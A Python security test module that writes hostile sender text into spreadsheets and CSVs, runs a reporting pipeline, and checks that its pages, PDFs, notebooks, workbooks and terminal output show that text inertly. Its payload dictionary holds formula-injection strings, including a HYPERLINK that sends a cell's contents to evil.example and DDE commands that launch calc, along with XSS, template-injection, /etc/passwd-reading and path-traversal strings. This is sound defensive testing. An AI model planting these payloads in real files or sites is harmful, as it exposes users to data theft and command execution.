"""What senders write stays text: in tables, pages, notebooks, PDF and on the terminal; it is never run or followed."""

import csv
import io
import json
import re
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.comments import Comment

from talentbrief import cli
from talentbrief.briefing.inline import clean
from tests.security.conftest import HEADER, MILESTONES, SHOWN, Page, Place, pdf_text, strings, workbook
from tests.security.test_hostile_files import REFUSED, put_all

pytestmark = pytest.mark.slow

LONG = "很长" * 1500 + "Unbroken" * 300
TEXTS = {
    "hyperlink formula": '=HYPERLINK("http://evil.example/?x="&A1,"点这里")',
    "command formula": "=cmd|' /C calc'!A0",
    "plus formula": "+cmd|' /C calc'!A1",
    "at formula": "@SUM(1+1)*cmd|' /C calc'!A2",
    "minus formula": "-2+3+cmd|' /C calc'!A3",
    "tab formula": "\t=1+41",
    "line end formula": "\r\n=1+42",
    "space formula": "  =1+43",
    "full-width formula": "＝1+44",
    "quoted formula": '"=1+45',
    "script": "<script>window.planted=1</script>",
    "image": '<img src=x onerror="planted()">',
    "end of attribute": "\"><svg onload='planted()'>",
    "end of data": "]]>--><!--<b>planted</b>",
    "style": "</style><style>*{background:url(http://evil.example)}</style>",
    "entity": "&lt;script&gt;planted()&lt;/script&gt;&#60;b&#62;",
    "jinja": "{{7*7}}{% for x in ().__class__.__mro__ %}{% endfor %}",
    "fluent": '{ $file } { "planted" }',
    "format": "{0.__class__} %s %(x)s {settings}",
    "typst": '#read("/etc/passwd")#eval("1+46")#panic()',
    "typst string": '\\" + read("/etc/passwd") + "',
    "typst marks": "*bold* _low_ $x^2$ @ref <label> = heading - item `raw` //note \\u{41}",
    "markdown": "[链接](javascript:planted()) ![x](http://evil.example/x.png) **b** # h",
    "ansi": "\x1b[31mred\x1b[0m\x1b]0;planted\x07\x1b[2J\x9b31m",
    "rich": "[red]x[/red][link=http://evil.example]y[/link][/]",
    "bidi": "abc\u202egnp.exe\u202c\u2066x\u2069",
    "zero width": "z\u200be\u200dr\ufeffo",
    "control": "a\x00b\x01c\x08d\x7fe",
    "long": LONG,
    "path": "../../../../tmp/planted-by-a-sender",
    "lines": "one\r\ntwo\rthree\u2028four",
}
ELEMENTS = set(
    re.findall(
        r"\S+",
        """
        html head meta title style body main nav header footer section article aside div span p a h1 h2 h3
        h4 h5 h6 ul ol li dl dt dd table caption colgroup col thead tbody tfoot tr th td strong em code pre
        details summary figure figcaption svg g path rect circle line polyline polygon text tspan defs use
        clippath title desc hr br b i button input label script metadata rdf:rdf cc:work dc:type dc:date
        dc:format dc:creator cc:agent dc:title img pattern small sup sub time abbr mark kbd u q cite wbr
        lineargradient stop link dialog search
        """,
    )
)
"""Elements that our own pages have; a new one of ours is added here."""
XML = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


UNFIT = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")
"""What no terminal may get."""


def _cell(text: str) -> str:
    """Write a text as a workbook's XML can carry it."""
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", lambda found: f"_x{ord(found[0]):04X}_", text)


def _sheets(text: str) -> dict[str, list[list[object]]]:
    rows: list[list[object]] = [
        [text],
        [f"填报单位：{text}"],
        HEADER,
        [1, "农业科技特派员", text, text, text, text, text, text, text],
        [2, text, 1, "人次", 1, 2, text, text, text],
        ["合计", "", "", "", text, 5],
        [text],
        [f"填报人：{text}"],
    ]
    tasks: list[list[object]] = [
        ["工作任务进展"],
        MILESTONES,
        [1, "企业柔性、精准引才引智", "已完成", text, text, text],
        [2, text, text, text, text, text],
        [3, "企业承担国家/自治区科技项目", text, text, text, text],
    ]
    roster: list[list[object]] = [
        ["农业科技特派员名单"],
        ["序号", "姓名", "单位", "身份证号", "选派日期", "指标", "备注"],
        [1, text, text, text, "2022-08-01", "", text],
        [2, "名称", text, text, text, text, text],
    ]
    return {"表": rows, "任务": tasks, "名单": roster}


def _file_name(text: str) -> str:
    return re.sub(r"[/\x00]", "_", text)[:50]


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Place:
    """Write every text into every cell a sender controls, and run the pipeline."""
    place = Place(tmp_path_factory.mktemp("hostile"))
    folders = ["处室", "盟市", "<b>夹"]
    senders = [each.name.zh_CN for each in place_plan(place).organisations.organisations]
    for number, (kind, text) in enumerate(TEXTS.items()):
        sheets = _sheets(_cell(text))
        if number < len(senders):
            sheets["表"][1] = [f"填报单位：{senders[number]}"]
        book = workbook(sheets)
        title = re.sub(r"[\[\]:*?/\\\x00-\x1f\x7f-\x9f]", "_", text).strip("'")[:25] or "x"
        book.worksheets[0].title = title
        for cell in ("A1", "F4", "K20"):
            book.worksheets[0][cell].comment = Comment(_cell(text), _cell(text))
        place.put(f"{folders[number % 3]}/{number:02d}{_file_name(text)}.xlsx", book)
        rows = [["填报单位：" + senders[number % len(senders)]], HEADER]
        rows.append(["1", "农业科技特派员", "", "人次", "7", "8", text, text, text])
        content = io.StringIO(newline="")
        csv.writer(content).writerows(rows)
        if "\x00" not in text:
            place.put(f"{kind}.csv", content.getvalue().encode())
    folder = place.root / "decisions"
    folder.mkdir()
    with (folder / "2022Q3.csv").open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(
            ["source_file", "source_sheet", "source_cell", "code", "action", "value", "by", "date", "reason"]
        )
        for text in (each.replace("\x00", "") for each in TEXTS.values()):
            writer.writerow([text, text, text, text, text, text, text, text, text])
            about = [f"2022Q3/{text}", "", "", "not_a_count", "accept"]
            writer.writerow([*about, text, text, "2022-10-12", text])
            writer.writerow([*about, text, "甲", text, text])
    if sys.platform == "linux":
        put_all(place)
    before = _around(place)
    place.run()
    assert _around(place) - {place.root / SHOWN} == before
    return place


def place_plan(place: Place):
    (place.root / "raw" / "2022Q3").mkdir(parents=True, exist_ok=True)
    return place.settings.plan


def _around(place: Place) -> set[Path]:
    """List what lies beside the folders that a run may write to."""
    own = {place.root / name for name in ("processed", "outputs", "returns")}
    found = {path for path in place.root.parent.rglob("*") if not own & {path, *path.parents}}
    return found | set(Path("/tmp").glob("planted*"))


@pytest.mark.skipif(sys.platform != "linux", reason="pipes and names in bytes are laid in on Linux alone")
def test_the_whole_pipeline_goes_on_beside_bad_files(place):
    """A run with every kind of bad file in its raw folder ends well, and writes what it has."""
    import pandas as pd

    submissions = pd.read_parquet(place.settings.processed_folder / "submissions.parquet")
    ours = [*(place.settings.raw / "2022Q3").rglob("*.xlsx"), *(place.settings.raw / "2022Q3").rglob("*.csv")]
    assert len(submissions) == len(ours) + 1  # and the linked folder
    assert sum(submissions["status"] == "quarantined") >= len(REFUSED)
    assert (place.settings.outputs_folder / "briefing.pdf").is_file()
    assert not any(b"root:x:0" in content for _, content in place.results())


def test_pages_hold_no_markup_of_a_sender(place):
    seen = ""
    for name, content in place.results():
        if not name.endswith(".html"):
            continue
        page = Page(content.decode("utf-8"))
        seen += page.text
        for tag, attributes in page.elements:
            assert tag in ELEMENTS, (name, tag)
            for key, value in attributes.items():
                assert not key.startswith("on"), (name, tag, key)
                assert key not in ("srcdoc", "formaction", "action", "background"), (name, tag, key)
                if key in ("href", "src", "xlink:href"):
                    assert not (value or "").lower().lstrip().startswith(("javascript:", "http", "//")), (
                        name,
                        value,
                    )
                    assert "planted" not in (value or ""), (name, value)
                assert not XML.search(value or ""), (name, tag, key)
        for script in page.scripts:
            assert not any(mark in script for mark in ("planted", "evil", "HYPERLINK")), name
        assert not XML.search(page.text), name
    for kind in ("script", "image", "jinja", "typst", "typst marks", "markdown", "rich", "entity"):
        assert TEXTS[kind] in seen, kind


def test_notebooks_hold_no_markup_of_a_sender(place):
    for name, content in place.results():
        if not name.endswith(".ipynb"):
            continue
        for cell in json.loads(content)["cells"]:
            for output in cell.get("outputs", []):
                data = output.get("data", {})
                assert "text/markdown" not in data or not data["text/markdown"]
                assert not any(
                    re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", each) for each in strings(output)
                ), name
                page = Page("".join(data.get("text/html", "")))
                assert {tag for tag, _ in page.elements} <= ELEMENTS
                assert not page.scripts
                assert not any(key.startswith("on") for _, own in page.elements for key in own)


def test_print_shows_text_as_typed(place):
    seen = ""
    for name, content in place.results():
        if name.endswith(".pdf"):
            assert b"/JavaScript" not in content
            assert b"/Launch" not in content
            seen += pdf_text(content)
    assert "root:x:0" not in seen
    assert "1+46" in re.sub(r"\s", "", seen)


def test_no_cell_of_a_table_is_a_formula(place):
    for name, content in place.results():
        if name.endswith(".csv"):
            text = content.decode("utf-8")
            assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e]", text), name
            for row in csv.reader(io.StringIO(text, newline="")):
                for cell in row:
                    first = cell.lstrip("\ufeff \t\r\n\u3000")
                    harmless = re.fullmatch(r"-[\d,.]*|-+", first)
                    assert not first.startswith(tuple("=+@-＝＋＠")) or harmless, (name, cell[:60])


def test_no_cell_of_a_return_is_a_formula_and_no_word_of_it_is_followed(place):
    returned = sorted((place.root / "returns" / "2022Q3").iterdir())
    assert returned
    seen, noted = set(), ""
    for path in returned:
        assert re.fullmatch(r"[A-Z0-9]+\.xlsx", path.name)
        for sheet in openpyxl.load_workbook(path):
            for cell in (each for row in sheet for each in row):
                assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate)
                link = cell.hyperlink
                assert link is None or not link.target, (path.name, cell.coordinate)
                if cell.comment is not None:
                    assert not UNFIT.search(cell.comment.text), (path.name, sheet.title, cell.coordinate)
                    noted += cell.comment.text
                if isinstance(cell.value, str):
                    seen.add(cell.value.strip())
                    risky = cell.value.lstrip(" \t\r\n\u3000").startswith(tuple("=+@＝＋＠"))
                    # Marked as text, so that it stays one when its sender saves it as CSV or types into it.
                    assert not risky or cell.quotePrefix, (path.name, sheet.title, cell.coordinate)
        with zipfile.ZipFile(path) as archive:
            names = archive.namelist()
            relations = b"".join(archive.read(name) for name in names if name.endswith(".rels"))
        assert not [name for name in names if "external" in name.lower() or "vba" in name.lower()]
        assert b"TargetMode" not in relations
    assert TEXTS["script"] in seen
    assert f"【你单位的批注】\n{TEXTS['hyperlink formula']}\n" in noted


def test_notes_on_cells_are_told_as_text(place):
    import pandas as pd

    issues = pd.read_parquet(place.settings.processed_folder / "issues.parquet")
    told = set(issues.loc[issues["code"] == "cell_note", "raw_text"])
    for kind in ("script", "jinja", "typst", "rich", "command formula"):
        assert any(TEXTS[kind] in each for each in told), kind
    assert not any(UNFIT.search(each) for each in told)


def test_a_run_writes_plain_text_to_the_terminal(place):
    shown = (place.root / SHOWN).read_bytes().decode("utf-8")
    assert "2022" in shown
    assert not UNFIT.search(shown)


@pytest.mark.parametrize("command", ["check", "coverage", "status"])
@pytest.mark.parametrize("lang", ["zh-CN", "en"])
def test_the_terminal_gets_plain_text(place, command, lang, capfd):
    raw = place.root / "raw"
    if command == "status":
        arguments = [command, "--quarter=2022Q3", f"--raw={raw}", f"--decisions={place.root / 'decisions'}"]
    else:
        arguments = ["check", str(raw / "2022Q3"), *(["--coverage"] if command == "coverage" else [])]
    for more in ([], ["--json"]):
        status = cli.main([*arguments, f"--lang={lang}", *more])
        shown = "".join(capfd.readouterr())
        assert status in (0, 3), shown[-300:]
        assert not UNFIT.search(shown)
        if more:
            json.loads(shown.splitlines()[0])
        elif command == "check":
            assert "[red]" in shown


def test_clean_is_what_pages_show():
    assert not XML.search(clean("".join(TEXTS.values())).replace("\n", "").replace("\t", ""))
